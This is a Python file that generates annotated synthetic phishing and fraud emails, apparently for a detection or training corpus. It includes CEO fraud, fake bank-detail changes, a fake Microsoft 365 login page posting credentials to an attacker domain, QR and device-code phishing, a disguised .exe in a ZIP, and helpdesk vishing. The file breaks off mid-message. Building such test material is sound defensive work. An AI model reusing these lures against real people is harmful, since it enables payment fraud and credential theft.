"""Attack messages 01-16: German (8) and English (8)."""
import base64

import ids
import systems as SY
from common import attach, esc, multi, text, utc, Part
from kit import (PH, alt, bnd, esp_html, fake_login_html, html_gmail, html_outlook,
                 html_simple, mixed, noted, pdf_att, qr_png, zip_att, d)
from message import Msg
from people import S, LIEF, LENT, EG_UK_VAT, EG_DE_VAT

MSGS = []


def add(f):
    MSGS.append(f())
    return f


# ------------------------------------------------------------------ 01
@add
def a01():
    t = """Frau Weißmann,

sind Sie heute Vormittag im Büro erreichbar?

Wir stehen kurz vor der Unterzeichnung der Übernahme einer Optikerkette mit 14 Filialen in Norditalien (interner Projektname „Lince“). Der Beirat ist informiert, der Notartermin in Mailand ist für Freitag bestätigt. Bis zur offiziellen Bekanntgabe gilt strikte Vertraulichkeit – bitte sprechen Sie mit niemandem im Haus darüber, auch nicht mit Frau Ferrara oder der Buchhaltung in Mailand, da auf Verkäuferseite eine börsennotierte Gesellschaft beteiligt ist.

Für das Signing muss heute noch eine Exklusivitätszahlung auf ein Treuhandkonto hinterlegt werden. Herr Jonathan Ashby von der begleitenden Kanzlei Fieldhouse Ashby LLP (London) wird sich dazu im Laufe des Tages bei Ihnen melden und Ihnen die Einzelheiten schicken. Bitte folgen Sie seinen Anweisungen, ich habe ihn entsprechend mandatiert.

Ich sitze den ganzen Tag in Verhandlungen und kann nicht telefonieren. Antworten Sie bitte nur auf diese E-Mail und schicken Sie mir Ihre Mobilnummer, damit wir uns bei Bedarf über WhatsApp abstimmen können.

Danke für Ihre Diskretion.

Jürgen Köhler

Von meinem iPhone gesendet"""
    return Msg('de', 'ceo-fraud-vertrauliche-uebernahme',
               when=utc(2026, 10, 6, 7, 52), zone='DE',
               route=SY.privateemail('185.213.155.74', mua='iphone', msgid_style='UUID'),
               frm=('Jürgen Köhler', 'juergen.koehler@examplegroup-eu.com'),
               reply_to=('Jürgen Köhler', 'dr.j.koehler@proton.me'),
               to=[S('cfo')], subject='Vertraulich – kurze Rückmeldung erbeten',
               body=text(t, 'plain', 'utf-8', 'quoted-printable'), mime_version='1.0 (1.0)',
               what='"CEO" writes to the CFO about a secret acquisition ("Projekt Lince"), announces a lawyer who will ask for an escrow payment, asks for her mobile number for WhatsApp.',
               why='CEO fraud stage 1: look-alike domain examplegroup-eu.com (real: example.com / examplegroup.eu) sent via Namecheap Private Email from a VPN IP, Reply-To diverted to proton.me, secrecy + urgency + "cannot phone", move to WhatsApp. Stage 2 is attack 13.')


# ------------------------------------------------------------------ 02
@add
def a02():
    new_iban = ids.iban_lt('32500', '83174220561')
    t = """Sehr geehrte Frau Schäfer,

im Zuge der Umstellung unseres Zahlungsverkehrs auf ein neues Cash-Management-System haben wir unsere Hausbankverbindung gewechselt. Das bisherige Konto bei der Stadtsparkasse Augsburg wird zum Monatsende aufgelöst; Zahlungseingänge auf diesem Konto können ab sofort nicht mehr zuverlässig zugeordnet werden.

Wir bitten Sie daher, alle offenen sowie künftigen Rechnungen ausschließlich auf unser neues Konto zu überweisen. Dies betrifft insbesondere die folgenden bereits fälligen Belege:

RE-2026-10418 vom 15.09.2026 – 8.412,60 EUR
RE-2026-10455 vom 22.09.2026 – 5.969,60 EUR

Die neue Bankverbindung und das Bestätigungsschreiben unserer Geschäftsleitung finden Sie im Anhang. Bitte passen Sie Ihre Kreditorenstammdaten entsprechend an und bestätigen Sie uns kurz per E-Mail die Änderung sowie den voraussichtlichen Zahlungstermin.

Wegen der Umstellung unserer Telefonanlage sind wir in dieser Woche telefonisch nur eingeschränkt erreichbar. Rückfragen richten Sie bitte direkt per E-Mail an mich.

Vielen Dank für Ihre Unterstützung und freundliche Grüße

Petra Lang
Auftragsabwicklung / Debitorenbuchhaltung

Lieferant GmbH
Gewerbestraße 14 · 86167 Augsburg
Tel. +49 821 4470-0 · Fax +49 821 4470-199
www.lieferant-gmbh.de
Geschäftsführer: Walter Hintermayr · HRB 31847 Amtsgericht Augsburg · USt-IdNr. %s""" % LIEF['vat']
    pdf = pdf_att('Lieferant_GmbH_Mitteilung_Bankverbindung.pdf', [
        '# Lieferant GmbH', 'Gewerbestraße 14 · 86167 Augsburg', '',
        'Example Group GmbH', 'Kreditorenbuchhaltung', 'Äußere Sulzbacher Straße 118', '90491 Nürnberg', '',
        'Augsburg, 13.10.2026', '',
        '## Mitteilung über die Änderung unserer Bankverbindung', '',
        'Sehr geehrte Damen und Herren,', '',
        'hiermit teilen wir Ihnen mit, dass Zahlungen an die Lieferant GmbH ab sofort ausschließlich',
        'auf die folgende Bankverbindung zu leisten sind:', '',
        'Kontoinhaber:   Lieferant GmbH',
        'Kreditinstitut: Revolut Bank UAB (Business)',
        'IBAN:           ' + ids.fmt_iban(new_iban),
        'BIC:            REVOLT21', '',
        'Die bisherige Bankverbindung bei der Stadtsparkasse Augsburg ist nicht mehr zu verwenden.',
        'Bitte aktualisieren Sie Ihre Stammdaten und bestätigen Sie die Änderung schriftlich.', '',
        'Mit freundlichen Grüßen', '', 'Walter Hintermayr', 'Geschäftsführer', '',
        'Lieferant GmbH · HRB 31847 Amtsgericht Augsburg · USt-IdNr. ' + LIEF['vat']],
        title='Mitteilung Bankverbindung', author='admin', creator='Microsoft Word - Bankverbindung_neu.docx',
        producer='iLovePDF', date=d(2026, 10, 13, 17, 2))
    body = mixed([alt(t, 'windows-1252', 'quoted-printable', 'outlook_alt', 'a02'), pdf], 'outlook', 'a02')
    return Msg('de', 'lieferant-lookalike-bankverbindung',
               when=utc(2026, 10, 14, 10, 31), zone='DE',
               route=SY.postfix_submission('mail.lieferant-grnbh.de', '161.97.139.52', rdns='vmi2231987.contaboserver.net',
                                           client_ip='45.134.142.19', msgid_style='outlook', mua=SY.MUA['outlook'],
                                           name='Contabo VPS (look-alike domain)'),
               frm=('Petra Lang', 'p.lang@lieferant-grnbh.de'), to=[S('ap1')], hdr_cs='windows-1252',
               subject='Änderung unserer Bankverbindung – Lieferant GmbH', body=body,
               extra=[('Content-Language', 'de')],
               what='"Petra Lang, Lieferant GmbH" announces a new bank account (Lithuanian EMI) and asks to pay two due invoices there; PDF letter attached.',
               why='Supplier impersonation / BEC: look-alike domain lieferant-grnbh.de ("rn" for "m") on a Contabo VPS instead of Lieferant\'s Microsoft 365, foreign IBAN at an e-money bank, discourages phone verification, asks for confirmation and payment date. PDF made with iLovePDF.')


# ------------------------------------------------------------------ 03
@add
def a03():
    url = 'https://lentiva-optical-my-sharepoint.rvogt-docs.workers.dev/:b:/g/personal/r_vogt_lentiva-optical_de/EbK4q2Lx9TfNvQ7wZ3aGm1YB8c?e=Kt7rXp'
    quoted = """Von: Ostermann, Markus <markus.ostermann@example.com>
Gesendet: Montag, 19. Oktober 2026 16:48
An: Vogt, Ralf <r.vogt@lentiva-optical.de>
Betreff: Reklamation Gleitsichtgläser Auftrag 4500231877

Hallo Herr Vogt,

bei der Lieferung zu Auftrag 4500231877 (Lentiva Progressive Comfort 1.6, 38 Paar) sind bei 11 Gläsern Fehler in der Entspiegelung aufgefallen (fleckig, teilweise Haarrisse am Rand). Fotos und die Liste der Kommissionsnummern schicke ich Ihnen separat.

Bitte um Gutschrift oder kurzfristigen Ersatz, die Kundenaufträge in Fürth warten.

Viele Grüße
Markus Ostermann
Einkauf
Example Group GmbH"""
    t = """Guten Morgen Herr Ostermann,

danke für Ihre Nachricht. Wir haben die Reklamation geprüft und erkennen die 11 Gläser vollständig an. Die Gutschrift sowie die angepasste Konditionsvereinbarung 2027 habe ich Ihnen über OneDrive freigegeben, da die Dateien für den Mailversand zu groß sind:

Gutschrift_GS-2026-0912_Konditionen_2027.pdf
%s

Bitte melden Sie sich zum Öffnen mit Ihrem Example-Group-Konto an. Die Freigabe ist aus Sicherheitsgründen 72 Stunden gültig.

Mit freundlichen Grüßen

Ralf Vogt
Key Account Manager Filialisten
Lentiva Optical GmbH
Carl-Benz-Straße 8 · 73431 Aalen
Tel. +49 7361 5840-212 · Mobil +49 171 4471223

%s""" % (url, quoted)
    share = ('<table cellpadding="0" cellspacing="0" style="border:1px solid #d1d1d1;width:420px;margin:8px 0">'
             '<tr><td style="padding:14px;font-family:Segoe UI,Arial,sans-serif">'
             '<div style="font-size:12px;color:#666">Ralf Vogt hat eine Datei für Sie freigegeben.</div>'
             '<div style="font-size:15px;margin:8px 0"><b>Gutschrift_GS-2026-0912_Konditionen_2027.pdf</b></div>'
             '<a href="%s" style="background:#0078d4;color:#fff;padding:7px 18px;text-decoration:none;font-size:13px">Öffnen</a>'
             '<div style="font-size:11px;color:#888;margin-top:10px">OneDrive for Business · Dieser Link ist 72 Stunden gültig.</div>'
             '</td></tr></table>' % esc(url))
    h = html_outlook(t.replace(url + '\n', ''), 'iso-8859-1').replace(
        '<p class="MsoNormal">Bitte melden', share + '\n<p class="MsoNormal">Bitte melden', 1)
    body = alt(t, 'iso-8859-1', 'quoted-printable', 'm365', 'a03', html=h)
    return Msg('de', 'threadhijack-lentiva-onedrive-workers',
               when=utc(2026, 10, 20, 3, 12), route=SY.m365('lentiva-optical.de', region='DE', web=True),
               frm=('Vogt, Ralf', 'r.vogt@lentiva-optical.de'), to=[('Ostermann, Markus', 'markus.ostermann@example.com')],
               hdr_cs='iso-8859-1',
               subject='AW: Reklamation Gleitsichtgläser Auftrag 4500231877',
               in_reply_to='<9c1f0e7d2b3a4c5e8f6a7b8c9d0e1f2a@EXCH02.corp.example.com>',
               references='<9c1f0e7d2b3a4c5e8f6a7b8c9d0e1f2a@EXCH02.corp.example.com>',
               body=body,
               what='Reply in a genuine complaint thread from the real Lentiva key-account manager; the "credit note" is a OneDrive share that needs an Example Group login.',
               why='Thread hijack from a genuinely compromised supplier mailbox (real M365 tenant, passes SPF/DKIM): sent 03:12 via OWA, the "OneDrive" link points to a Cloudflare workers.dev page (credential harvester), a credit note never needs the customer\'s own account login.',
               pair='business 04 (genuine Lentiva invoice)')


# ------------------------------------------------------------------ 04
@add
def a04():
    action = 'https://erechnung-postfach.de.session-verify.net/owa/auth.php'
    t = """Guten Tag,

für Ihr Unternehmen Example Group GmbH ist über das Peppol-Netzwerk eine neue elektronische Rechnung eingegangen.

Rechnungssteller: Lentiva Optical GmbH
Rechnungsnummer: 9100451187
Rechnungsdatum: 03.11.2026
Betrag (brutto): 23.807,44 EUR
Format: XRechnung 3.0 (UBL)
Fällig am: 17.11.2026

Seit dem 1. Januar 2025 sind Unternehmen verpflichtet, E-Rechnungen empfangen und verarbeiten zu können. Zur Anzeige der Rechnung öffnen Sie bitte die beigefügte Visualisierung und bestätigen Sie Ihre Empfangsberechtigung mit Ihrem Unternehmenskonto.

Diese Nachricht wurde automatisch erstellt. Bitte antworten Sie nicht auf diese E-Mail.

E-Rechnung Zustellservice
Peppol Access Point · Empfangsbenachrichtigung"""
    h = esp_html('utf-8', [
        ('h', 'Neue E-Rechnung eingegangen'),
        ('p', 'Guten Tag,\n\nfür Ihr Unternehmen Example Group GmbH ist über das Peppol-Netzwerk eine neue elektronische Rechnung eingegangen.'),
        ('kv', [('Rechnungssteller', 'Lentiva Optical GmbH'), ('Rechnungsnummer', '9100451187'),
                ('Rechnungsdatum', '03.11.2026'), ('Betrag (brutto)', '23.807,44 EUR'),
                ('Format', 'XRechnung 3.0 (UBL)'), ('Fällig am', '17.11.2026')]),
        ('p', 'Seit dem 1. Januar 2025 sind Unternehmen verpflichtet, E-Rechnungen empfangen und verarbeiten zu können. '
              'Zur Anzeige der Rechnung öffnen Sie bitte die beigefügte Visualisierung (XRechnung_9100451187_Visualisierung.html) '
              'und bestätigen Sie Ihre Empfangsberechtigung mit Ihrem Unternehmenskonto.'),
        ('small', 'Diese Nachricht wurde automatisch erstellt. Bitte antworten Sie nicht auf diese E-Mail.')],
        color='#1d4f91', brand='E-Rechnung Zustellservice', footer='E-Rechnung Zustellservice · Peppol Access Point\nEmpfangsbenachrichtigung gemäß EN 16931')
    page = fake_login_html('lukas.brandt@example.com', action, 'XRechnung 9100451187 – Lentiva Optical GmbH',
                           'Zur Anzeige der E-Rechnung ist eine Anmeldung mit Ihrem Microsoft 365-Konto erforderlich.', 'de')
    att = noted(attach(page.encode('utf-8'), 'text/html', 'XRechnung_9100451187_Visualisierung.html'),
                'fake Microsoft sign-in form, posts to session-verify.net')
    body = multi('mixed', [alt(t, 'utf-8', 'quoted-printable', 'java', 'a04', html=h), att], bnd('java', 'a04m'))
    return Msg('de', 'erechnung-peppol-html-anhang',
               when=utc(2026, 11, 4, 6, 5), route=SY.brevo('erechnung-postfach.de'),
               frm=('E-Rechnung Zustellservice', 'zustellung@erechnung-postfach.de'), to=[S('ap2')],
               subject='Neue E-Rechnung eingegangen: 9100451187 – Lentiva Optical GmbH (XRechnung 3.0)', body=body,
               what='"Peppol access point" notifies a new XRechnung from the real lens supplier; the attached "visualisation" is an HTML page.',
               why='Credential phishing with HTML attachment: the HTML is a fake Microsoft 365 sign-in with the victim\'s address pre-filled posting to session-verify.net; sent through Brevo from a freshly registered domain. XRechnung is XML, no viewer needs a mailbox password; the real Lentiva invoice (business 04) comes from lentiva-optical.de with PDF+XML.',
               pair='business 04')


# ------------------------------------------------------------------ 05
@add
def a05():
    import base64 as b
    u = 'https://sso-example-group.cfd/mfa/?u=' + b.b64encode(b'felix.baeumer@example.com').decode().rstrip('=')
    png = qr_png(u, 5)
    t = """Sehr geehrte(r) Felix Bäumer,

im Rahmen der Umstellung auf die neuen Microsoft-Sicherheitsstandards müssen alle Benutzer der Domäne example.com ihre Mehrstufige Authentifizierung (MFA) bis zum 23.10.2026 neu registrieren.

Scannen Sie dazu den QR-Code in dieser Nachricht mit der Kamera Ihres Smartphones und folgen Sie den Anweisungen. Der Vorgang dauert weniger als zwei Minuten.

Wird die Registrierung nicht rechtzeitig abgeschlossen, werden Outlook, Teams und OneDrive auf allen Ihren Geräten automatisch abgemeldet.

Referenz: MFA-REG-7730-EG

Ihr IT-Service"""
    h = esp_html('iso-8859-1', [
        ('h', 'Aktion erforderlich: MFA-Neuregistrierung'),
        ('p', 'Sehr geehrte(r) Felix Bäumer,\n\nim Rahmen der Umstellung auf die neuen Microsoft-Sicherheitsstandards müssen alle Benutzer der Domäne example.com ihre Mehrstufige Authentifizierung (MFA) bis zum 23.10.2026 neu registrieren.'),
        ('p', 'Scannen Sie dazu den folgenden QR-Code mit der Kamera Ihres Smartphones:'),
        ('img', 'cid:qr_mfa_7730', 'QR-Code', 200),
        ('p', 'Wird die Registrierung nicht rechtzeitig abgeschlossen, werden Outlook, Teams und OneDrive auf allen Ihren Geräten automatisch abgemeldet.'),
        ('small', 'Referenz: MFA-REG-7730-EG\nIhr IT-Service')], color='#0078d4', brand='Microsoft 365')
    a = alt(t, 'iso-8859-1', '8bit', 'phpmailer2', 'a05', html=h)
    img = noted(Part('image/png', data=png, cte='base64', filename='qr.png', disp='inline', cid='qr_mfa_7730', role='inline'),
                'QR code -> ' + u)
    body = multi('related', [a, img], bnd('phpmailer', 'a05'), params=[('type', 'multipart/alternative')])
    return Msg('de', 'quishing-m365-mfa-qr',
               when=utc(2026, 10, 22, 9, 40),
               route=SY.webserver_php('webserver.baeckerei-hofmann-landshut.de', '88.99.214.37',
                                      rdns='static.37.214.99.88.clients.your-server.de', zone='DE',
                                      name='compromised bakery web server (Hetzner), PHPMailer'),
               envelope='www-data@webserver.baeckerei-hofmann-landshut.de',
               frm=('IT-Service Example Group', 'it-service@baeckerei-hofmann-landshut.de'), to=[S('sales')],
               hdr_cs='iso-8859-1',
               subject='Aktion erforderlich: Ihre Mehrstufige Authentifizierung läuft am 23.10.2026 ab', body=body,
               what='"IT-Service" asks to re-register MFA by scanning a QR code (inline PNG) before Outlook/Teams are signed out.',
               why='Quishing: the QR code encodes https://sso-example-group.cfd/mfa/?u=<base64 address> (AitM kit), the From domain is a hacked bakery web server sending with PHPMailer; MFA is only registered via aka.ms/mysecurityinfo (see business 05).',
               pair='business 05')


# ------------------------------------------------------------------ 06
@add
def a06():
    t = """Sehr geehrte Frau Gödecke,

mit großem Interesse habe ich Ihre Stellenanzeige als Augenoptikerin (m/w/d) für Ihre Filiale in der Nürnberger Südstadt gelesen und sende Ihnen hiermit meine Bewerbungsunterlagen.

Ich bin ausgebildete Augenoptikergesellin und seit vier Jahren in einem inhabergeführten Fachgeschäft in Erlangen tätig. Neben der Refraktion und der Anpassung von Gleitsichtbrillen gehört die Kontaktlinsenanpassung zu meinen Schwerpunkten. Zum 1. Januar 2027 möchte ich mich beruflich verändern.

Aus Datenschutzgründen habe ich meine Unterlagen (Anschreiben, Lebenslauf, Zeugnisse) in einem passwortgeschützten Archiv zusammengefasst. Das Passwort lautet: Sommer2026

Über eine Einladung zu einem persönlichen Gespräch freue ich mich sehr.

Mit freundlichen Grüßen
Lea Sommer"""
    z = zip_att('Bewerbung_Lea_Sommer.zip', [
        ('Bewerbung_Lea_Sommer/Anschreiben_Lebenslauf_Lea_Sommer.pdf.lnk', PH),
        ('Bewerbung_Lea_Sommer/Zeugnisse_Lea_Sommer.pdf' + ' ' * 40 + '.exe', PH)],
        password='Sommer2026', seed='a06', when=(2026, 11, 10, 10, 55, 12))
    body = multi('mixed', [alt(t, 'UTF-8', 'quoted-printable', 'html', 'a06'), z], bnd('gmx', 'a06'))
    return Msg('de', 'bewerbung-passwort-zip-lnk',
               when=utc(2026, 11, 10, 11, 18),
               route=SY.united_internet('webde', 'webmail', client_ip='77.247.181.163'),
               frm=('Lea Sommer', 'lea.sommer92@web.de'), to=[S('hr')],
               subject='Bewerbung als Augenoptikerin (m/w/d) – Filiale Nürnberg-Südstadt', body=body,
               what='Job application for an optician post with the documents in a password-protected ZIP.',
               why='Malware delivery (classic German "Bewerbung" campaign): ZipCrypto archive (password in the body to defeat scanning) containing a .pdf.lnk and a padded .pdf<spaces>.exe; web.de webmail from a Tor exit IP. Genuine applicants send PDFs (business 06).',
               pair='business 06')


# ------------------------------------------------------------------ 07
@add
def a07():
    ib = ids.iban('BG', 'UNCR7000' + '15' + '24519738')
    t = """Example Group GmbH
z. Hd. Buchhaltung
Äußere Sulzbacher Straße 118
90491 Nürnberg

Aktenzeichen: DFR-HRB28417-2026
Registergericht: Amtsgericht Nürnberg, HRB 28417

Sehr geehrte Damen und Herren,

auf Grundlage der im Handelsregister veröffentlichten Daten Ihres Unternehmens übersenden wir Ihnen anbei die Unterlagen zur Eintragung und Offenlegung Ihrer Firmendaten im Deutschen Firmenregister für den Zeitraum 2026/2027.

Zur Aufrechterhaltung der Eintragung überweisen Sie bitte den Betrag von 748,80 EUR unter Angabe des Aktenzeichens bis spätestens 09.11.2026 auf das in der Anlage genannte Konto.

Für Rückfragen steht Ihnen unsere Registerabteilung gerne zur Verfügung.

Mit freundlichen Grüßen

Registerabteilung
DFR Deutsches Firmenregister
Offenlegung & Publikation"""
    pdf = pdf_att('DFR_Eintragung_HRB28417_2026.pdf', [
        '# DFR Deutsches Firmenregister', 'Offenlegung & Publikation', '',
        'Example Group GmbH · Äußere Sulzbacher Straße 118 · 90491 Nürnberg', '',
        '## Eintragungsofferte / Zahlungsaufforderung', 'Aktenzeichen: DFR-HRB28417-2026      Datum: 28.10.2026', '',
        'Leistung: Eintragung und Offenlegung der Firmendaten (Firma, Anschrift, Register, Geschäftsführung)',
        'im Online-Register www.dfr-offenlegung.de, Zeitraum 2026/2027', '',
        'Nettobetrag                     629,24 EUR', 'MwSt. 19 %                      119,56 EUR', 'Gesamtbetrag                    748,80 EUR', '',
        'Zahlbar bis 09.11.2026 auf:', 'Empfänger: DFR Register & Publikation Ltd.',
        'IBAN: ' + ids.fmt_iban(ib), 'BIC: UNCRBGSF', 'Verwendungszweck: DFR-HRB28417-2026', '',
        'Hinweis: Diese Offerte stellt ein Angebot zur Aufnahme in das privatwirtschaftliche Verzeichnis DFR dar.',
        'Es besteht keine Verbindung zum amtlichen Handelsregister, Unternehmensregister oder Bundesanzeiger.',
        'Mit Zahlung des Betrages nehmen Sie das Angebot an. Laufzeit 3 Jahre, jährliche Berechnung,',
        'Kündigung 3 Monate vor Ablauf. Gerichtsstand Sofia.'],
        title='DFR Eintragung', author='DFR', creator='Writer', producer='LibreOffice 7.6', date=d(2026, 10, 28, 11, 40))
    body = mixed([text(t, 'plain', 'iso-8859-15', 'quoted-printable'), pdf], 'java', 'a07')
    return Msg('de', 'fake-registerrechnung-offenlegung',
               when=utc(2026, 10, 28, 13, 5), route=SY.mailgun('mg.dfr-offenlegung.de'),
               frm=('DFR Deutsches Firmenregister', 'rechnung@dfr-offenlegung.de'), to=[S('ap2')],
               hdr_cs='iso-8859-15',
               subject='Eintragung Example Group GmbH – HRB 28417 – Zahlungsaufforderung Offenlegung 2026/2027', body=body,
               what='"Deutsches Firmenregister" invoice for "Offenlegung" of the company data, 748,80 EUR, PDF with Bulgarian IBAN.',
               why='Fake directory/register invoice: designed to look like an official Handelsregister fee; the small print admits a private directory with a 3-year subscription, payee abroad, sent via Mailgun from a look-official domain.')


# ------------------------------------------------------------------ 08
@add
def a08():
    ib = ids.iban_de('10011001', '2651874930')
    t = """Hallo Frau Lorenz,

ich habe zum 1. November mein Girokonto gewechselt. Könnten Sie bitte die Gehaltszahlung ab der November-Abrechnung auf meine neue Bankverbindung umstellen?

Kontoinhaber: Bernd Krüger
IBAN: %s
BIC: NTSBDEB1XXX
Bank: N26 Bank

Das alte Konto bei der Sparkasse Fürth wird zum Monatsende aufgelöst. Ich schreibe von meiner privaten Adresse, weil ich diese Woche Urlaub habe und vom Handy nicht ins Firmenpostfach komme.

Können Sie mir kurz bestätigen, ob die Änderung noch für November berücksichtigt wird?

Danke und viele Grüße
Bernd Krüger
Glaswerkstatt Fürth""" % ids.fmt_iban(ib)
    return Msg('de', 'gehaltsumleitung-privatmail',
               when=utc(2026, 11, 19, 21, 34),
               route=SY.united_internet('gmx', 'webmail', client_ip='185.107.56.201'),
               frm=('Bernd Krüger', 'bernd.krueger84@gmx.de'), to=[S('payroll')],
               subject='Änderung Bankverbindung für Gehaltszahlung', body=text(t, 'plain', 'UTF-8', 'quoted-printable'),
               what='The lens-lab manager "from his private address" asks payroll to pay his salary to a new N26 account.',
               why='Payroll diversion: unknown private GMX address (not on file), sent from a VPN/hosting IP in the evening, neobank IBAN, bypasses the HR self-service process, asks for confirmation of the payroll cut-off. Contrast with business 08 (real sick note from a colleague\'s private mail, no payment data).',
               pair='business 08')


# ------------------------------------------------------------------ 09
@add
def a09():
    t = """Hi Oliver,

Our monitoring shows that your mailbox has received more than 1,900 newsletter and sign-up confirmation emails in the last two hours. This is a known spam-flooding attack that is currently hitting several Example Group mailboxes in the UK and Germany.

We are rolling out an updated filter policy to the affected users. A member of the Service Desk team (Daniel Hughes) will contact you on Microsoft Teams within the next 15 minutes to apply it. The session takes about 10 minutes:

1. Accept the chat request from "Help Desk | Example Group" in Teams.
2. When asked, press Ctrl + Windows + Q to open Quick Assist and read out the 6-digit security code.
3. Please don't use your PC while the engineer applies the update.

Please do not forward this email or report the incoming messages as phishing in the meantime, as this slows down the clean-up.

Kind regards,
Daniel Hughes
IT Service Desk | Example Group
Service hours Mon–Fri 07:00–19:00 CET"""
    return Msg('en', 'teams-quickassist-helpdesk-vishing',
               when=utc(2026, 11, 24, 10, 17, zone='UK'),
               route=SY.m365('examplegroupsupport.onmicrosoft.com', region='NA', lang='en-US', tenant='examplegroupsupport.onmicrosoft.com'),
               frm=('IT Service Desk | Example Group', 'servicedesk@examplegroupsupport.onmicrosoft.com'), to=[S('uk_mgr')],
               subject='RE: Unusual volume of incoming email to your mailbox – action in progress',
               body=alt(t, 'utf-8', 'quoted-printable', 'm365', 'a09', lang='EN-GB'),
               what='"IT Service Desk" explains a spam flood and announces a Teams call in which the user must start Quick Assist and read out the code.',
               why='Remote-access vishing pretext (email bombing + fake help desk, Black Basta/Storm-1811 pattern): external onmicrosoft.com tenant, fake "RE:", asks not to report phishing, Quick Assist gives the caller full control of the PC.')


# ------------------------------------------------------------------ 10
@add
def a10():
    t = """Hi Priya,

Hope you're well. Ahead of the year-end close we've completed the supplier statement reconciliation for Example Group UK Ltd and have shared the working papers with you through our secure client area in Microsoft 365.

To open the documents:

1. Go to https://microsoft.com/devicelogin
2. Enter the code F7QK2XRLM
3. Sign in with your Example Group account and confirm.

The code is valid for 15 minutes. If it has expired, just reply to this email and I'll send you a fresh one.

Could you let us have any comments by Friday so we can finalise the schedules?

Kind regards,

Sarah Hartley ACA
Partner
Hartley & Moss Chartered Accountants
14 St John Street, Manchester M3 4DZ
T: 0161 496 0518"""
    return Msg('en', 'device-code-phish-accountants',
               when=utc(2026, 12, 3, 15, 42, zone='UK'),
               route=SY.m365('hartleymoss.co.uk', region='UK', lang='en-GB'),
               frm=('Sarah Hartley', 's.hartley@hartleymoss.co.uk'), to=[S('uk_acc')],
               subject='Year-end supplier statement reconciliation – documents shared',
               body=alt(t, 'us-ascii', '7bit', 'm365', 'a10', lang='EN-GB'),
               what='A partner of a Manchester accountancy "shares" year-end working papers; to open them Priya must enter a code at microsoft.com/devicelogin.',
               why='Device-code phishing (Storm-2372 style): the URL is the genuine Microsoft page, but the code belongs to the attacker\'s sign-in session, so approving it hands over Priya\'s tokens. Sent from a genuinely compromised M365 mailbox of a small firm (auth passes); document sharing never needs a device code.')


# ------------------------------------------------------------------ 11
@add
def a11():
    link = 'https://mtd-vat.hmrc-gateway-services.com/repayment/verify?ref=VRN%s&s=ZXhhbXBsZQ' % EG_UK_VAT
    t = """Example Group UK Ltd
VAT registration number: GB %s

Dear Customer,

Your VAT Return for the period 01 Jul 2026 to 30 Sep 2026 shows a repayment due to you of £4,812.36.

We have been unable to make this repayment because the bank account details held for your business under Making Tax Digital could not be verified.

To avoid further delay, please confirm your repayment account details in your HMRC online services account within 5 working days:

%s

If we do not receive your confirmation by 19 November 2026, the repayment will be cancelled and you will need to submit a written claim.

Yours faithfully

VAT Repayments Team
HM Revenue & Customs""" % (EG_UK_VAT, link)
    h = esp_html('utf-8', [
        ('p', 'Example Group UK Ltd\nVAT registration number: GB %s' % EG_UK_VAT),
        ('h', 'VAT repayment on hold'),
        ('p', 'Dear Customer,\n\nYour VAT Return for the period 01 Jul 2026 to 30 Sep 2026 shows a repayment due to you of £4,812.36.'),
        ('p', 'We have been unable to make this repayment because the bank account details held for your business under Making Tax Digital could not be verified.'),
        ('btn', 'Confirm repayment details', link),
        ('p', 'If we do not receive your confirmation by 19 November 2026, the repayment will be cancelled and you will need to submit a written claim.'),
        ('p', 'Yours faithfully\n\nVAT Repayments Team\nHM Revenue & Customs')],
        color='#0b0c0c', brand='GOV.UK', font='Arial,sans-serif')
    return Msg('en', 'hmrc-vat-repayment-phish',
               when=utc(2026, 11, 12, 8, 25, zone='UK'), route=SY.mailgun('mg.hmrc-vatnotices.co.uk'),
               frm=('HM Revenue & Customs', 'no-reply@hmrc-vatnotices.co.uk'), to=[S('uk_acc')],
               subject='VAT repayment for period 09 26 on hold – bank details verification required',
               body=alt(t, 'utf-8', 'quoted-printable', 'html', 'a11', html=h),
               what='"HMRC" says a VAT repayment of £4,812.36 is on hold and asks to confirm bank details via a link.',
               why='Tax-office credential/bank phishing: not from gov.uk (Mailgun, hmrc-vatnotices.co.uk), link to hmrc-gateway-services.com; HMRC never emails links about repayments. The genuine HMRC notice (business 11) only says there is a message in the online account.',
               pair='business 11')


# ------------------------------------------------------------------ 12
@add
def a12():
    t = """Dear Customer,

Thank you for renewing your Norton 360 Deluxe subscription. Your payment of GBP 389.99 has been processed successfully and will appear on your statement within 24 hours.

Please find your invoice attached for your records.

If you did not authorise this renewal or wish to cancel and request a refund, please contact our billing department within 24 hours on +44 20 7946 0381 (Mon-Sat, 8am-8pm).

Regards,
Billing Department"""
    pdf = pdf_att('Invoice_NL-88417326.pdf', [
        '# INVOICE', 'Norton 360 Deluxe - Auto Renewal', '',
        'Invoice No: NL-88417326          Date: 16/10/2026', 'Customer ID: CX-5519-20471', '',
        'Product                               Qty   Term      Amount',
        'Norton 360 Deluxe (5 devices)          1     3 years   GBP 349.99',
        'Secure VPN + Dark Web Monitoring        1     3 years   GBP  40.00',
        '', 'Total charged:                                        GBP 389.99',
        'Payment method: Card ending ****', '',
        'Your subscription has been renewed automatically.',
        'To cancel and claim a full refund, call our Billing Helpdesk:',
        '## +44 20 7946 0381', 'Refund requests are only accepted within 24 hours of the charge.'],
        title='Invoice', author='', creator='Canva', producer='Canva', date=d(2026, 10, 16, 14, 55))
    body = multi('mixed', [alt(t, 'UTF-8', '7bit', 'gmail', 'a12'), pdf], bnd('gmail', 'a12m'))
    return Msg('en', 'callback-toad-fake-renewal-invoice',
               when=utc(2026, 10, 16, 16, 3, zone='UK'), zone='UK', route=SY.gmail(),
               frm=('Norton Billing', 'nortonbilling.desk5537@gmail.com'), to=[S('assist')],
               subject='Your order NL-88417326 has been processed - Invoice attached', body=body,
               what='Fake "Norton 360" auto-renewal invoice (GBP 389.99) with a phone number to cancel.',
               why='Callback phishing (TOAD): no link or malware, the victim is pushed to call a "billing helpdesk" that installs remote-access tools and steals banking data; brand invoice from a Gmail address, PDF made in Canva.')


# ------------------------------------------------------------------ 13
@add
def a13():
    ib = ids.iban_gb('MYMB', '230580', '41876293')
    t = """Dear Ms Weissmann,

Further to Dr Köhler's instructions, I am writing to you in connection with Project Lince, the proposed acquisition by Example Group of the entire issued share capital of a privately held optical retail group in Northern Italy. Dr Köhler has confirmed that you are authorised to act on behalf of Example Group GmbH in this matter.

As one of the vendor's shareholders is a listed entity, the transaction remains subject to MAR confidentiality obligations until the public announcement. I must therefore ask you not to discuss the matter with colleagues, your banks or other advisers until completion.

Signing is scheduled for Friday. In order for it to proceed, the exclusivity deposit of EUR 186,400.00 must be held in our client account by close of business today:

Account name: Fieldhouse Ashby LLP Client Account
